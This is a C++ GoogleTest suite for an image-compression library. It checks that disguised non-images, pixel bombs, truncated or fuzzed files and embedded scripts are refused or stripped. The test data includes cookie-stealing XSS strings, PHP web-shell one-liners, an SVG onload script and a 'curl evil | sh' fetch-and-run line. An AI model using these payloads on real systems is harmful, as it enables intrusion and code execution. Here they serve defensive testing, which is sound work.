// Hostile and broken inputs: each is rejected with the right reason or neutralised, and the
// process never crashes.
#include <gtest/gtest.h>

#include <sys/resource.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <set>
#include <sstream>

#include "imaging/helpers.h"

using namespace imtest;
using namespace fixtures;
using vips::VImage;

namespace {

class Hostile : public ::testing::Test {
 protected:
  static void SetUpTestSuite() { im::init(); }
};

void expect_rejected(const std::string& in, const std::string& reason, im::Settings s = {}) {
  im::Result r = im::compress(in, s);
  EXPECT_FALSE(r.ok);
  EXPECT_EQ(r.reason, reason) << r.detail;
  EXPECT_FALSE(r.detail.empty());
  EXPECT_TRUE(r.derivatives.empty());
}

}  // namespace

TEST_F(Hostile, NonImagesNamedJpgAreUnsupported) {
  const std::vector<std::string> inputs = {
      "",
      "<!DOCTYPE html><html><script>alert(document.cookie)</script></html>",
      "<?php echo shell_exec($_GET['cmd']); ?>",
      "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
      "%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
      "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\nshowpage\n",
      "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://example.com/x.jpg)'\npop graphic-context\n",
      std::string("PK\x03\x04\x14\0\0\0\x08\0", 10) + std::string(200, 'z'),
      std::string("II*\0\x08\0\0\0", 8) + std::string(100, '\0'),
      std::string("BM\x3A\0\0\0\0\0\0\0\x36\0\0\0", 14) + std::string(100, '\0'),
      "#!/bin/sh\ncurl evil | sh\n",
  };
  for (const auto& in : inputs) expect_rejected(in, "unsupported_type");
  std::string noise_bytes;
  for (int i = 0; i < 4096; ++i) noise_bytes.push_back(static_cast<char>((i * 7919 + 13) % 251));
  expect_rejected(noise_bytes, "unsupported_type");
  // A real TIFF stays refused even though libvips could read it.
  std::string tiff;
  {
    VipsBlob* b = quadrants(32, 32).tiffsave_buffer();
    std::size_t n = 0;
    const void* d = vips_blob_get(b, &n);
    tiff.assign(static_cast<const char*>(d), n);
    vips_area_unref(VIPS_AREA(b));
  }
  expect_rejected(tiff, "unsupported_type");
}

TEST_F(Hostile, HeaderClaimingHugeSizeIsRefusedBeforeDecoding) {
  expect_rejected(set_jpeg_size(jpeg(quadrants(64, 48)), 65535, 65535), "too_many_pixels");
  expect_rejected(set_jpeg_size(jpeg(quadrants(64, 48), 90, true), 65535, 65535), "too_many_pixels");
  expect_rejected(set_png_size(png(quadrants(64, 48)), 65535, 65535), "too_many_pixels");
  expect_rejected(set_gif_size(gif({quadrants(64, 48)}), 65535, 65535), "too_many_pixels");
  // Only the logical screen enlarged: libnsgif sizes the image from its frame, so nothing is huge.
  std::string g = gif({quadrants(64, 48)});
  g[6] = g[7] = g[8] = g[9] = '\xFF';
  im::Result screen = im::compress(g, {});
  ASSERT_TRUE(screen.ok) << screen.reason;
  EXPECT_EQ(screen.source_width * screen.source_height, 64 * 48);
  im::Result r = im::compress(set_jpeg_size(jpeg(quadrants(64, 48)), 65535, 65535), {});
  EXPECT_NE(r.detail.find("65535x65535"), std::string::npos) << r.detail;
}

TEST_F(Hostile, PixelLimitIsConfigurable) {
  im::Settings s;
  s.max_pixels = 100 * 100;
  expect_rejected(jpeg(quadrants(101, 100)), "too_many_pixels", s);
  expect_rejected(png(quadrants(101, 100)), "too_many_pixels", s);
  EXPECT_TRUE(im::compress(png(quadrants(100, 100)), s).ok);
}

TEST_F(Hostile, PngPixelBombIsRefusedQuickly) {
  // 12000 x 12000 one-bit PNG: ~17 KB on disk, 144 MP (432 MB as RGB) decoded.
  VipsBlob* b = VImage::black(12000, 12000).pngsave_buffer(VImage::option()->set("bitdepth", 1)->set("compression", 9));
  std::size_t n = 0;
  const void* d = vips_blob_get(b, &n);
  std::string bomb(static_cast<const char*>(d), n);
  vips_area_unref(VIPS_AREA(b));
  ASSERT_LT(bomb.size(), 100000u);
  auto t0 = std::chrono::steady_clock::now();
  expect_rejected(bomb, "too_many_pixels");
  EXPECT_LT(std::chrono::steady_clock::now() - t0, std::chrono::seconds(1));
}

TEST_F(Hostile, WholeFrameDecodesAboveTheMemoryBudgetAreRefused) {
  // Interlaced PNG: libpng needs the whole image in memory (9000*9000*8 bytes here).
  VImage rgba16 = (VImage::black(16, 16, VImage::option()->set("bands", 4)) + 1000)
                      .cast(VIPS_FORMAT_USHORT)
                      .copy(VImage::option()->set("interpretation", VIPS_INTERPRETATION_RGB16));
  im::Result r = im::compress(set_png_size(png(rgba16, true), 9000, 9000), {});
  EXPECT_EQ(r.reason, "too_many_pixels");
  EXPECT_NE(r.detail.find("MB"), std::string::npos) << r.detail;
  // Progressive JPEG: the coefficient buffer of a 100 MP image is 300 MB.
  r = im::compress(set_jpeg_size(jpeg(noise(256, 256), 90, true), 10000, 10000), {});
  EXPECT_EQ(r.reason, "too_many_pixels");
  EXPECT_NE(r.detail.find("progressive"), std::string::npos) << r.detail;
  // The same file, baseline, decodes straight to the target size: no refusal on memory.
  r = im::compress(set_jpeg_size(jpeg(noise(256, 256), 90, false), 10000, 10000), {});
  EXPECT_EQ(r.reason, "corrupt_image") << "the data ends long before 10000 rows";
  // A smaller budget refuses smaller files.
  im::Settings s;
  s.max_decode_bytes = 1 << 20;
  expect_rejected(jpeg(noise(1000, 1000), 90, true), "too_many_pixels", s);
  expect_rejected(gif({quadrants(600, 600)}), "too_many_pixels", s);
  expect_rejected(heif(quadrants(600, 600), false), "too_many_pixels", s);
}

// A few KB declaring a progressive frame the decoder would hold whole: under the pixel limit
// and the memory budget as declared (6000x6000 4:4:4: 216 MB of coefficients), but its scans
// cannot fill a fraction of it. Refused before the buffers are allocated, and measured so: the
// peak resident size of a forked child that runs the compressor barely moves.
TEST_F(Hostile, TinyFileDeclaringAHugeProgressiveFrameIsRefusedBeforeAllocating) {
  std::string bomb = set_jpeg_size(jpeg(noise(64, 64), 90, true), 6000, 6000);
  ASSERT_LT(bomb.size(), 16000u);
  int fds[2];
  ASSERT_EQ(pipe(fds), 0);
  pid_t pid = fork();
  ASSERT_GE(pid, 0);
  if (pid == 0) {
    rusage before{}, after{};
    getrusage(RUSAGE_SELF, &before);
    im::Result r = im::compress(bomb, {});
    getrusage(RUSAGE_SELF, &after);
    std::string report = r.reason + " " + std::to_string(after.ru_maxrss - before.ru_maxrss) + " " + r.detail;
    [[maybe_unused]] auto n = write(fds[1], report.data(), report.size());
    _exit(0);
  }
  close(fds[1]);
  std::string report;
  char buf[512];
  for (ssize_t n; (n = read(fds[0], buf, sizeof buf)) > 0;) report.append(buf, static_cast<std::size_t>(n));
  close(fds[0]);
  int status = 0;
  waitpid(pid, &status, 0);
  ASSERT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0) << report;
  std::istringstream in(report);
  std::string reason;
  long grew_kb = -1;
  in >> reason >> grew_kb;
  EXPECT_EQ(reason, "corrupt_image") << report;
  EXPECT_GE(grew_kb, 0) << report;
  EXPECT_LT(grew_kb, 32 * 1024) << "peak RSS grew by " << grew_kb << " KB: " << report;
}

TEST_F(Hostile, TruncatedFilesAreCorruptNeverHalfGrey) {
  VImage n = noise(600, 400);
  for (const auto& in : {jpeg(n), jpeg(n, 90, true), png(n), webp(n), heif(n, false), heif(n, true), gif({n})}) {
    SCOPED_TRACE(im::sniff(in));
    for (double keep : {0.5, 0.9}) {
      std::string cut = in.substr(0, static_cast<std::size_t>(in.size() * keep));
      expect_rejected(cut, "corrupt_image");
    }
  }
  expect_rejected(std::string("\xFF\xD8\xFF\xE0", 4) + std::string(500, 'A'), "corrupt_image");
  expect_rejected(std::string("\x89PNG\r\n\x1A\n\0\0\0\x0DIHDR", 16) + std::string(100, '\x01'), "corrupt_image");
}

TEST_F(Hostile, ScriptsInCommentsOrAfterTheImageDoNotSurvive) {
  std::string base = jpeg(quadrants(120, 90));
  std::string in =
      with_comment(base, "<script>alert(document.cookie)</script>") + "<html><?php system($_GET['c']); ?></html>";
  ASSERT_EQ(im::sniff(in), "jpeg");
  im::Result r = im::compress(in, {});
  ASSERT_TRUE(r.ok) << r.reason;
  for (const auto& d : r.derivatives) {
    EXPECT_FALSE(contains(d.bytes, "<script"));
    EXPECT_FALSE(contains(d.bytes, "<?php"));
    EXPECT_FALSE(contains(d.bytes, "<html"));
  }
  expect_no_metadata(r);
  // The same trailer after a PNG or GIF.
  for (const auto& img : {png(quadrants(120, 90)), gif({quadrants(120, 90)})}) {
    im::Result p = im::compress(img + "<script>alert(1)</script>", {});
    ASSERT_TRUE(p.ok) << p.reason;
    for (const auto& d : p.derivatives) EXPECT_FALSE(contains(d.bytes, "<script"));
  }
}

TEST_F(Hostile, DeadlineStopsTheJob) {
  im::Settings s;
  s.timeout_ms = 1;
  for (const auto& in : {png(noise(2400, 1800)), jpeg(noise(2400, 1800), 90, true)}) {
    SCOPED_TRACE(im::sniff(in));
    expect_rejected(in, "timeout", s);
  }
}

TEST_F(Hostile, MutatedFilesNeverCrash) {
  const std::set<std::string> reasons = {"unsupported_type", "too_many_pixels", "corrupt_image", "timeout", "internal"};
  im::Settings s;
  s.max_pixels = 4000000;
  s.timeout_ms = 5000;
  VImage q = quadrants(96, 64);
  std::vector<std::string> seeds = {jpeg(q),     jpeg(q, 80, true), png(q),       webp(q),
                                    gif({q, q}), heif(q, false),    heif(q, true)};
  unsigned state = 12345;
  auto next = [&] { return state = state * 1103515245u + 12345u; };
  int ok = 0, rejected = 0;
  for (const auto& seed : seeds)
    for (int i = 0; i < 60; ++i) {
      std::string m = seed;
      int flips = 1 + static_cast<int>(next() % 8);
      for (int k = 0; k < flips; ++k) m[next() % m.size()] = static_cast<char>(next() >> 16);
      im::Result r = im::compress(m, s);
      if (r.ok) {
        ++ok;
        EXPECT_FALSE(r.derivatives.empty());
      } else {
        ++rejected;
        EXPECT_TRUE(reasons.count(r.reason)) << r.reason;
      }
    }
  EXPECT_GT(rejected, 0);
}

TEST_F(Hostile, UntrustedLoadersAreBlocked) {
  std::string svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"/>";
  std::string pdf = "%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n";
  std::string tiff;
  {
    VipsBlob* t = quadrants(16, 16).tiffsave_buffer();
    std::size_t n = 0;
    const void* d = vips_blob_get(t, &n);
    tiff.assign(static_cast<const char*>(d), n);
    vips_area_unref(VIPS_AREA(t));
  }
  // The compressor never dispatches on content through libvips, but even that is closed.
  for (const auto& bytes : {svg, pdf, tiff})
    EXPECT_THROW(VImage::new_from_buffer(bytes.data(), bytes.size(), ""), vips::VError) << bytes.substr(0, 8);
  // Nor can a direct call.
  auto blocked = [](auto load) {
    try {
      load();
    } catch (const vips::VError& e) {
      return std::string(e.what()).find("blocked") != std::string::npos;
    }
    return false;
  };
  VipsBlob* s = vips_blob_new(nullptr, svg.data(), svg.size());
  VipsBlob* t = vips_blob_new(nullptr, tiff.data(), tiff.size());
  EXPECT_TRUE(blocked([&] { VImage::svgload_buffer(s).copy_memory(); }));
  EXPECT_TRUE(blocked([&] { VImage::magickload_buffer(s).copy_memory(); }));
  EXPECT_TRUE(blocked([&] { VImage::tiffload_buffer(t).copy_memory(); }));
  vips_area_unref(VIPS_AREA(s));
  vips_area_unref(VIPS_AREA(t));
  vips_error_clear();
  // The allow-listed loaders still work.
  for (const auto& ok : {jpeg(quadrants(8, 8)), png(quadrants(8, 8)), webp(quadrants(8, 8)), gif({quadrants(8, 8)}),
                         heif(quadrants(8, 8), false)})
    EXPECT_NO_THROW(VImage::new_from_buffer(ok.data(), ok.size(), "").copy_memory());
}
